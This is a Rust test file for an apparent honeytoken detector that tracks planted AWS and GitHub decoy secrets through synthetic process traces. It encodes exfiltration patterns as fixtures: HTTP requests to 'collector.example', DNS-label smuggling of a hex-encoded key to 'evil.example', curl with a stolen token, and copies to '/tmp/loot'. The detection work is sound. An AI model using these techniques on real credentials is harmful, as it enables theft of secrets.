use pyti_model::trace::{Access, Exchange, Origin, Process, Transport};

use super::*;

const KEY: &str = "q7/Zr0PxW2mK9sLd4vTfYb1NcHgJ5uEaQe8oXi3R";
const TOKEN: &str = "ghp_4Jx0Qm7TzYb2WnVr9KdLs5PfHc1GaE3uXoZi";

fn decoys() -> Vec<Decoy> {
    vec![
        Decoy {
            id: "aws.credentials".into(),
            family: "aws".into(),
            place: DecoyPlace::File("/home/dev/.aws/credentials".into()),
            secrets: vec![KEY.into()],
            commonly_read: false,
        },
        Decoy {
            id: "env.GITHUB_TOKEN".into(),
            family: "github".into(),
            place: DecoyPlace::Variable("GITHUB_TOKEN".into()),
            secrets: vec![TOKEN.into()],
            commonly_read: false,
        },
    ]
}

fn host() -> Decoy {
    Decoy {
        id: "machine.host".into(),
        family: "machine".into(),
        place: DecoyPlace::File("/etc/hostname".into()),
        secrets: vec!["larsen-xps13-0a1b".into()],
        commonly_read: true,
    }
}

#[test]
fn of_the_machine_only_what_is_told_counts() {
    let decoys = vec![host()];
    let mut trace = trace(vec![
        open("/etc/hostname"),
        conversation(b"host=larsen-xps13-0a1b", Vec::new()),
    ]);
    annotate(&mut trace, &decoys, &Needles::new(&decoys), &Output::default());
    let used = &trace.acts[2..];
    assert_eq!(used.len(), 1);
    assert!(matches!(
        &used[0].deed,
        Deed::Decoy {
            used: DecoyUse::Sent { act: 1, .. },
            ..
        }
    ));
}

fn act(deed: Deed) -> Act {
    Act {
        at_us: 5,
        process: Some(2),
        result: Result::Attempted,
        times: 1,
        deed,
    }
}

fn open(path: &str) -> Act {
    act(Deed::Open {
        path: path.into(),
        access: Access {
            read: true,
            ..Access::default()
        },
    })
}

fn trace(acts: Vec<Act>) -> Trace {
    Trace {
        processes: (0..3)
            .map(|number| Process {
                number,
                parent: None,
                pid: 7,
                began_us: 0,
                ended: None,
                executable: "/usr/bin/python3".into(),
                argv: Vec::new(),
            })
            .collect(),
        acts,
        ..Trace::default()
    }
}

fn uses(acts: Vec<Act>, output: &Output<'_>) -> Vec<(String, DecoyUse)> {
    let decoys = decoys();
    let mut trace = trace(acts.clone());
    let done = annotate(&mut trace, &decoys, &Needles::new(&decoys), output);
    assert_eq!(trace.acts[..acts.len()], acts, "places of other acts stay");
    assert_eq!(trace.acts.len(), acts.len() + done.added);
    trace.acts[acts.len()..]
        .iter()
        .map(|act| match &act.deed {
            Deed::Decoy { decoy, used } => (decoy.clone(), used.clone()),
            other => panic!("{other:?}"),
        })
        .collect()
}

fn read(path: &str) -> Vec<(String, DecoyUse)> {
    vec![("aws.credentials".into(), DecoyUse::Read { path: path.into() })]
}

#[test]
fn reading_its_file_is_a_use() {
    let path = "/home/dev/.aws/credentials";
    assert_eq!(uses(vec![open(path), open(path)], &Output::default()), read(path));
    for path in [
        "/home/dev/./.aws//x/../credentials",
        "/proc/self/root/home/dev/.aws/credentials",
    ] {
        assert_eq!(uses(vec![open(path)], &Output::default()), read(path));
    }
}

#[test]
fn looking_failing_and_writing_is_not() {
    let path = "/home/dev/.aws/credentials";
    let mut failed = open(path);
    failed.result = Result::Failed("ENOENT".into());
    let written = act(Deed::Open {
        path: path.into(),
        access: Access {
            write: true,
            ..Access::default()
        },
    });
    let looked = act(Deed::Look { path: path.into() });
    let other = open("/home/dev/.aws/credentials.d");
    assert_eq!(uses(vec![failed, written, looked, other], &Output::default()), []);
}

#[test]
fn a_new_name_hides_nothing() {
    let moved = vec![
        act(Deed::Rename {
            from: "/home/dev/.aws".into(),
            to: "/tmp/x".into(),
        }),
        act(Deed::Link {
            path: "/tmp/y".into(),
            to: "x/credentials".into(),
            symbolic: true,
        }),
        open("/tmp/y"),
    ];
    assert_eq!(uses(moved, &Output::default()), read("/tmp/y"));
}

fn conversation(sent: &[u8], exchanges: Vec<Exchange>) -> Act {
    act(Deed::Converse(Box::new(Conversation {
        transport: Transport::Tcp,
        address: "198.18.0.9".parse().unwrap(),
        port: 443,
        host: Some("collector.example".into()),
        language: "http".into(),
        tls: None,
        exchanges,
        sent: captured(sent),
        answered: 0,
        lasted_us: 1,
    })))
}

fn captured(bytes: &[u8]) -> Captured {
    Captured {
        head: bytes.to_vec().into(),
        tail: Foreign::default(),
        total: bytes.len() as u64,
    }
}

fn sent(decoy: &str, encoding: &str, act: u32) -> Vec<(String, DecoyUse)> {
    let encoding = encoding.into();
    vec![(decoy.into(), DecoyUse::Sent { encoding, act })]
}

#[test]
fn sending_its_secret_is_a_use() {
    let text = format!("data={}", KEY.replace('/', "%2F"));
    let acts = vec![open("/etc/hosts"), conversation(text.as_bytes(), Vec::new())];
    assert_eq!(uses(acts, &Output::default()), sent("aws.credentials", "url", 1));
    let exchange = Exchange {
        verb: "GET".into(),
        target: format!("/?t={TOKEN}").into(),
        host: None,
        headers: vec![("X-A".into(), KEY.into())],
        body: Captured::default(),
        answer: "200".into(),
    };
    let found = uses(vec![conversation(b"", vec![exchange])], &Output::default());
    assert_eq!(found.len(), 2);
    assert!(found.contains(&sent("env.GITHUB_TOKEN", "raw", 0)[0]));
}

#[test]
fn sending_something_else_is_not() {
    let acts = vec![conversation(
        b"GET / HTTP/1.1\r\nUser-Agent: x\r\n\r\n",
        Vec::new(),
    )];
    assert_eq!(uses(acts, &Output::default()), []);
}

fn asks(name: &str) -> Act {
    act(Deed::Resolve {
        name: name.into(),
        record: "A".into(),
        answer: Vec::new(),
    })
}

#[test]
fn names_carry_secrets_in_parts() {
    let hex: String = KEY.bytes().map(|b| format!("{b:02X}")).collect();
    let one = asks(&format!("{}.{}.x.example", &hex[..50], &hex[50..]));
    assert_eq!(
        uses(vec![one], &Output::default()),
        sent("aws.credentials", "hex", 0)
    );
    let mut many = vec![asks("www.example")];
    for (number, part) in hex.as_bytes().chunks(20).enumerate() {
        let part = str::from_utf8(part).unwrap();
        many.push(asks(&format!("{number}.{part}.evil.example")));
        many.push(asks(&format!("{number}.{part}.evil.example")));
        many.push(asks("unrelated.name.test"));
    }
    assert_eq!(
        uses(many.clone(), &Output::default()),
        sent("aws.credentials", "hex", 1)
    );
    many.remove(4);
    many.remove(4);
    assert_eq!(uses(many, &Output::default()), [], "a part is missing");
}

#[test]
fn arguments_and_files_and_output() {
    let run = act(Deed::Execute {
        path: "/usr/bin/curl".into(),
        argv: vec![
            "curl".into(),
            "-H".into(),
            format!("Authorization: {TOKEN}").into(),
        ],
        argv_dropped: 0,
        cwd: "/tmp".into(),
        variables: Vec::new(),
        origin: Origin::System,
        sockets: Vec::new(),
    });
    let argument = DecoyUse::Argument {
        encoding: "raw".into(),
        act: 0,
    };
    assert_eq!(
        uses(vec![run], &Output::default()),
        [("env.GITHUB_TOKEN".into(), argument)]
    );

    let config = format!("key={KEY}\n# and something new\n");
    let stdout = captured(TOKEN.as_bytes());
    let written = [
        ("/home/dev/.aws/credentials".into(), config.as_bytes()),
        ("/tmp/loot".into(), config.as_bytes()),
    ];
    let output = Output {
        stdout: Some(&stdout),
        stderr: None,
        written: &written,
    };
    let printed = DecoyUse::Printed {
        encoding: "raw".into(),
    };
    let copied = DecoyUse::Written {
        encoding: "raw".into(),
        path: "/tmp/loot".into(),
    };
    assert_eq!(
        uses(Vec::new(), &output),
        [
            ("env.GITHUB_TOKEN".into(), printed),
            ("aws.credentials".into(), copied)
        ]
    );
}

#[test]
fn what_is_too_big_to_be_unpacked_is_told_by_where_it_went() {
    use std::io::Write as _;
    let packed = |bytes: usize| {
        let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        out.write_all(&vec![b'a'; bytes]).unwrap();
        out.finish().unwrap()
    };
    let (small, big) = (packed(1 << 20), packed(8 << 20));
    let decoys = decoys();
    let needles = Needles::new(&decoys);
    let looked = |printed: &[u8], wrote: &[u8]| {
        let stdout = captured(printed);
        let written = [("/tmp/a.gz".into(), wrote)];
        let output = Output {
            stdout: Some(&stdout),
            stderr: None,
            written: &written,
        };
        let done = annotate(&mut trace(Vec::new()), &decoys, &needles, &output);
        (done.cut, done.cut_files)
    };
    assert_eq!(looked(&small, &small), (false, false));
    assert_eq!(looked(&big, &small), (true, false), "printed");
    assert_eq!(looked(&small, &big), (false, true), "only written");
}
